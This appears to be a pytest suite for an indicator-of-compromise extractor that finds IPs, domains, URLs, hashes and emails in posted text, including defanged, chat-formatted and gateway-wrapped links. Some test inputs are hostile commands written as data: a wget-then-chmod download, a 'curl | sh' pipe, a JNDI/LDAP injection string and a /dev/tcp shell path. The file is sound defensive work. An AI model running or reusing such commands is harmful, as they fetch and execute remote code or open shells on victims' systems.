"""Finding indicators: what someone posts, and what is found in it."""

import importlib.util
import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.values import VALUES
from vt import extract
from vt.extract import MAX_CANDIDATES
from vt.indicators import defang, read

SHARED = Path(os.environ.get("SHARED") or Path(__file__).parents[3] / "shared")
CORPORA = SHARED / "corpora" / "ioc"
BENCH = SHARED / "tools" / "ioc_bench" / "bench.py"
GOOD = 0.97
"""F1 that finding has to reach."""

MD5 = "44d88612fea8a8f36de82e1278abb02f"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"


def found(text):
    """What is found, as `kind value`."""
    return [f"{indicator.kind} {indicator.value}" for indicator in extract(text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("beacon to 185.220.101.45 seen", ["ipv4 185.220.101.45"]),
        ("C2 at 2A02:6B8:0:1::feed:ff.", ["ipv6 2a02:6b8:0:1::feed:ff"]),
        ("it calls Update-CDN.net now", ["domain update-cdn.net"]),
        ("open https://Drop.top/A?b=C", ["url https://drop.top/A?b=C"]),
        (f"md5 {MD5.upper()}", [f"md5 {MD5}"]),
        (f"sha1={SHA1}", [f"sha1 {SHA1}"]),
        (f"{SHA256}  a.sh", [f"sha256 {SHA256}"]),
        ("from ceo@paypa1.co", ["email ceo@paypa1.co"]),
    ],
)
def test_all_eight_kinds_are_found_in_running_text(text, expected):
    """Each kind is found between words, and normalised."""
    assert found(text) == expected


def test_they_come_in_order_and_once():
    """Indicators come in the order of their first appearance, however differently they are written again."""
    text = f"b.com a[.]com 8.8.8.8 B.COM hxxp://a.com/x {MD5} 8[.]8[.]8[.]8 http://a.com/x {MD5.upper()}"
    assert found(text) == ["domain b.com", "domain a.com", "ipv4 8.8.8.8", "url http://a.com/x", f"md5 {MD5}"]


def test_what_was_written_is_kept_refanged():
    """`asked` is how it was written, without the defanging."""
    assert [indicator.asked for indicator in extract("hxxps://Evil[.]COM/x")] == ["https://Evil.COM/x"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("it called hxxps[://]cdn[.]evil[.]com/a[.]php today", ["url https://cdn.evil.com/a.php"]),
        ("evil(.)com, bad{.}net; worse[dot]org", ["domain evil.com", "domain bad.net", "domain worse.org"]),
        ("evil [.] com and 1.2.3 [.] 4", ["domain evil.com", "ipv4 1.2.3.4"]),
        ("someone said evil dot co dot uk", ["domain evil.co.uk"]),
        (
            "bob[at]evil[dot]com, eve @ thief.net, ann AT bad DOT org",
            ["email bob@evil.com", "email eve@thief.net", "email ann@bad.org"],
        ),
        ("2001[:]67c[:]2e8[:][:]1", ["ipv6 2001:67c:2e8::1"]),
        ("http:// evil .com /path", ["url http://evil.com/path"]),
        ("hxxp://unknown[.]suffix/x", ["url http://unknown.suffix/x"]),
        ("it was invoice[.]zip, not a file", ["domain invoice.zip"]),
    ],
)
def test_defanged_ones_are_found(text, expected):
    """Defanging is undone, and what was defanged counts where its plain form would be doubted."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("(see https://a.com/x_(y)).", ["url https://a.com/x_(y)"]),
        (
            "[report](https://a.com/r) and <a href='https://a.com/q'>",
            ["url https://a.com/r", "url https://a.com/q"],
        ),
        ("https://a.com/p,q;r?s=[1]&t={2}, then", ["url https://a.com/p,q;r?s=[1]&t={2}"]),
        (
            "*https://a.com/b* _https://a.com/i_ http://a.com/c's end!",
            ["url https://a.com/b", "url https://a.com/i", "url http://a.com/c"],
        ),
        ("x,http://a.com/1,http://a.com/2,y", ["url http://a.com/1", "url http://a.com/2"]),
        ("wget http://5.6.7.8/b.sh;chmod +x b.sh", ["url http://5.6.7.8/b.sh"]),
        ('{"u":"https:\\/\\/a.com\\/x"}', ["url https://a.com/x"]),
        ("http://me:pw@a.com:8080/?q", ["url http://me:pw@a.com:8080/?q"]),
        ("http://[2a01:4f8::0:2]:80/gate", ["url http://[2a01:4f8::2]:80/gate"]),
        (
            "https://good.com@evil.com/ and https://evil.com\\@good.com",
            ["url https://good.com@evil.com/", "url https://evil.com/@good.com"],
        ),
        (
            "a.com/x b.net:8080/y?z=1 5.6.7.8/q",
            ["url http://a.com/x", "url http://b.net:8080/y?z=1", "url http://5.6.7.8/q"],
        ),
        ("a.com:443 and 5.6.7.8:80", ["domain a.com", "ipv4 5.6.7.8"]),
        ("http://2899908174/x", ["url http://172.217.22.78/x"]),
        ("${jndi:ldap://5.6.7.8:1389/a}", ["ipv4 5.6.7.8"]),
        ("href=//cdn.evil.com/a.js", ["url http://cdn.evil.com/a.js"]),
    ],
)
def test_urls_begin_and_end_where_they_do(text, expected):
    """Punctuation, brackets, quotes, lists and commands around a URL are not its own; its own are kept."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<https://a.com/x?y=1&amp;z=2|click> now", ["url https://a.com/x?y=1&z=2"]),
        ("<https://evil.com/|https://bank.com>", ["url https://evil.com/"]),
        ("<http://evil.com|evil.com> it was", ["domain evil.com"]),
        ("<http://README.md|README.md> again", []),
        ("hxxp://<http://evil.com/x|evil.com/x>", ["url http://evil.com/x"]),
        ("<mailto:a@b.com|a@b.com> <mailto:c@d.com>", ["email a@b.com", "email c@d.com"]),
        ("<@U012AB3CD|bob.com> <#C012AB3CD|inc.net> <!subteam^S1|@ops.org> <!here>", []),
        ("<!date^1732230000^{date_num}|on evil.com> <tel:+15550132|555>", []),
        (
            "&gt; quoted evil.com &lt;evil.net&gt; a.com/?x&amp;copy=1",
            ["domain evil.com", "domain evil.net", "url http://a.com/?x&copy=1"],
        ),
        ("```curl http://a.com/x | sh```", ["url http://a.com/x"]),
    ],
)
def test_chat_markup_is_understood(text, expected):
    """Links count and labels do not, unless the client made the link; mentions, channels and dates are skipped."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("münchen-bank.de", ["domain xn--mnchen-bank-thb.de"]),
        ("https://пример.com/я", ["url https://xn--e1afmkfd.com/я"]),
        ("恶意域名：bad.com，IP为5.6.7.8。", ["domain bad.com", "ipv4 5.6.7.8"]),
        ("食狮.com.cn と xn--fiqs8s.com", ["domain xn--85x722f.com.cn", "domain xn--fiqs8s.com"]),
        ("“evil.com’s” «bad.net»", ["domain evil.com", "domain bad.net"]),
    ],
)
def test_every_script_is_read(text, expected):
    """International names become punycode, and scripts without spaces do not stick to what they surround."""
    assert found(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "report.pdf, setup.py, main.rs, README.md, deploy.sh, logs.zip, clip.mov, invoice.pdf.zip",
        "C:\\Users\\bob\\evil.com\\a.exe and ./src/lib.rs and /opt/Safari.app",
        "v7.21.0.15, version 10.2.3.4, firmware from 9.1.0.3 to 9.1.0.7; chrome/120.0.6.9 foo==1.2.3.4",
        "OID 1.3.6.1.4.1.9 and 1.2.3.4.5 and 256.1.1.1 and 01.02.03.04",
        "10:32:11.123 at 2026-11-21T10:32:11Z, ratio 1:2:3",
        "AB:F2:C9:A6:B3:4F acf2.c9a6.b34f 50:06:01:60:3b:a0:12:34",
        "serial 0f:e9:73:75:20:22:a6:06:ad:f2:a3:6e:34:5d:c0:ed",
        "550e8400-e29b-41d4-a716-446655440000 and 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        f"sha512 {SHA256}{SHA256}, short {MD5[:-1]}, joined x{MD5}",
        f"imphash: {MD5}, JA3={MD5}, trace_id={MD5}, api key: {SHA256}",
        f"fixed in commit {SHA1}, HEAD is now at {SHA1}, actions/checkout@{SHA1}",
        "it is down again.Is anyone here? fixed.Now testing. Moscow.In July. e.g. this, U.S. firms",
        "foo.bar.baz() os.path.join self.id user.name=x dns.question.name datetime.now() logger.info('x')",
        "self.data = x.name; Color.RED, logging.INFO, key.events, @app.run, xs[1::2], listen [::]:80",
        "1.0.0.127.in-addr.arpa is 0.3.2.6 reversed",
        "java.io.IOException at com.acme.app.Main.run(Main.java:42), package com.acme.mail.app",
        "std::string abc::def Foo::Bar arn:aws:iam::123456789012:role/x",
        "ASP.NET, VB.NET, System.IO, the .NET runtime, .com domains",
        "Trojan.Win32.Agent.ws, Win32/Emotet.AC, W32.Ramnit.B, TEMP.Veles",
        "24:VGXGP7L5e/Ixt3af/WKPPaYpzg4m3XWMCsXNCRs0:kYDxcfPZpelCs9Cm0",
        "91.92.240.0/24 and 2a00:1450::/32 are theirs",
        "postgres://app:pw@db.prod.internal/main file:///C:/a.com s3://bucket/a.com http://intranet/a.com",
        "lodash@4.17.21 me@localhost @here 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
        "COM net us co.uk example.example b.invalid a_b.com",
    ],
)
def test_what_only_looks_like_one_is_left_alone(text):
    """Files, versions, times, numbers, code, sentences, detections, networks and other hashes are not indicators."""
    assert found(text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://x.com/commit/" + SHA1, ["url https://x.com/commit/" + SHA1]),
        ("evil.com.The next", ["domain evil.com"]),
        ("VirusShare_" + MD5 + " and " + SHA256 + ".exe", [f"md5 {MD5}", f"sha256 {SHA256}"]),
        (
            "sklep.com.pl allegro.biz.pl www.wp.pl",
            ["domain sklep.com.pl", "domain allegro.biz.pl", "domain www.wp.pl"],
        ),
        ("the domain was kasa.pl", ["domain kasa.pl"]),
        (
            "*.evil.com .bad.net _dmarc.evil.org",
            ["domain evil.com", "domain bad.net", "domain _dmarc.evil.org"],
        ),
        (
            "Booking.com Passport.Net EVIL.COM",
            ["domain booking.com", "domain passport.net", "domain evil.com"],
        ),
        ("5.6.7.1-5.6.7.9 5.6.7.8/32", ["ipv4 5.6.7.1", "ipv4 5.6.7.9", "ipv4 5.6.7.8"]),
        ("/dev/tcp/5.6.7.8/443 5.6.7.9->x", ["ipv4 5.6.7.8", "ipv4 5.6.7.9"]),
        (
            "ip6:2a02:6b8::1 [2a02:6b8::2]:443 2a02:6b8::3/128",
            ["ipv6 2a02:6b8::1", "ipv6 2a02:6b8::2", "ipv6 2a02:6b8::3"],
        ),
        (
            "smtp.mailfrom=a@b.com a+tag=x@b.com a@b.com:pw git@github.com:x/y",
            ["email a@b.com", "email a+tag=x@b.com", "domain github.com"],
        ),
        (
            "bob@example.name www.evil.name self@evil.com",
            ["email bob@example.name", "domain www.evil.name", "email self@evil.com"],
        ),
        (
            r'{"m":"from 5.6.7.8\nhost evil.com\r\nhttp://a.com/x\nend"}',
            ["ipv4 5.6.7.8", "domain evil.com", "url http://a.com/x"],
        ),
        ("user.id is not evil.id", ["domain evil.id"]),
        ("foo.onion", ["domain foo.onion"]),
    ],
)
def test_what_looks_doubtful_and_is_one_is_found(text, expected):
    """The doubts leave real hosts, hashes and addresses standing."""
    assert found(text) == expected


@pytest.mark.parametrize(
    "wrapped",
    [
        "https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%23c&data=05%7Cjane%40acme.com",
        "https://urldefense.proofpoint.com/v1/url?u=https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%23c&k=x",
        "https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.com_a-3Fb-3D1-23c&d=DwMFaQ",
        "https://urldefense.com/v3/__https://evil.com/a?b=1*c__;Iw!!abc!def$",
        "https://linkprotect.cudasvc.com/url?a=https%3a%2f%2fevil.com%2fa%3fb%3d1%23c&c=E,1",
        "https://secure-web.cisco.com/1aB_-c/https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%23c",
        "hxxps://slack-redir[.]net/link?url=https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%23c",
        "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Furldefense.com%2Fv3%2F__https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%2Ac__%3BIw%21%21",
    ],
)
def test_the_url_behind_a_mail_gateway_is_what_is_found(wrapped):
    """Protected links are opened, one inside another too, and nothing of the wrapper stays: it names the reader."""
    [indicator] = extract(f"clicked <{wrapped}>")
    assert (indicator.value, indicator.asked) == ("https://evil.com/a?b=1#c", "https://evil.com/a?b=1#c")


@pytest.mark.parametrize(
    "broken",
    [
        "https://urldefense.com/v3/__https://evil.com/*__;!!!!",
        "https://urldefense.com/v3/__nothing__;gICA!!",
        "https://nam12.safelinks.protection.outlook.com/?url=intranet",
        "https://www.google.com/url?q=" + "%",
    ],
)
def test_a_wrapper_that_cannot_be_opened_stays_a_url(broken):
    """A link that only looks like a gateway's is a URL like any other."""
    assert len(extract(broken)) == 1


@given(st.text(max_size=400))
def test_any_text_can_be_searched(text):
    """No text makes the search fail, and whatever it finds could have been typed by itself."""
    assert all(read(indicator.value) == indicator for indicator in extract(text))


PIECES = st.sampled_from(
    "a 1 . [.] ( ) [ ] { } < > @ dot DOT AT hxxp:// http:// :// : :: / \\ | & &amp; - _ evil.com 5.6.7.8 食 é www. "
    f"{MD5} <http://a.b|a.b> <mailto:a@b.com> urldefense.com/v3/__ ?u= , ; ' \" ` * \u200b \ud800 \n".split(
        " "
    )
)


@given(st.lists(PIECES, max_size=60).map("".join))
def test_any_mixture_of_its_own_signs_can_be_searched(text):
    """Not even texts made of nothing but what the search looks for make it fail or give nonsense."""
    assert all(read(indicator.value) == indicator for indicator in extract(text))


@given(st.lists(VALUES, max_size=12).map(" , ".join))
def test_what_was_found_is_found_again_when_defanged(text):
    """The values that were found, defanged as they are shown, are found again."""
    values = [indicator.value for indicator in extract(text)]
    assert [indicator.value for indicator in extract(" , ".join(map(defang, values)))] == values


@pytest.mark.parametrize(
    "unit",
    [
        "1.",
        "a.",
        "[.]",
        "a[.]",
        "hxxp://",
        "a@",
        "f:",
        "::",
        "<http://a.b|",
        "http://a.com/(",
        " . [ ",
        " DOT a",
        "食a.com",
        "[ ",
        "a-b.",
    ],
)
def test_hostile_texts_come_to_an_end(unit):
    """Forty thousand characters of nothing but signs are searched, and little is given."""
    assert len(extract((unit * 40_000)[:40_000])) <= 1


def test_what_is_given_is_capped():
    """A text with more indicators than anyone posts gives the first of them."""
    text = " ".join(f"host{number}.com" for number in range(5_000))
    assert len(extract(text)) == MAX_CANDIDATES


@pytest.mark.skipif(
    not (CORPORA.is_dir() and BENCH.is_file()), reason="the labelled texts are not beside the project"
)
def test_the_labelled_texts_are_answered_well():
    """Of the indicators in the labelled texts, nearly all are found and nearly nothing else."""
    spec = importlib.util.spec_from_file_location("bench", BENCH)
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    cases = [
        json.loads(line) | {"_f": path.stem}
        for path in CORPORA.glob("*.jsonl")
        for line in path.read_text().splitlines()
    ]
    scores, misses = bench.accuracy(_by_kind, bench.make_global_only(cases))
    assert scores["by_type"]["ALL"]["F1"] >= GOOD, json.dumps(misses[:20])


def _by_kind(text):
    answer = {}
    for indicator in extract(text):
        answer.setdefault(indicator.kind.value, set()).add(indicator.value)
    return answer
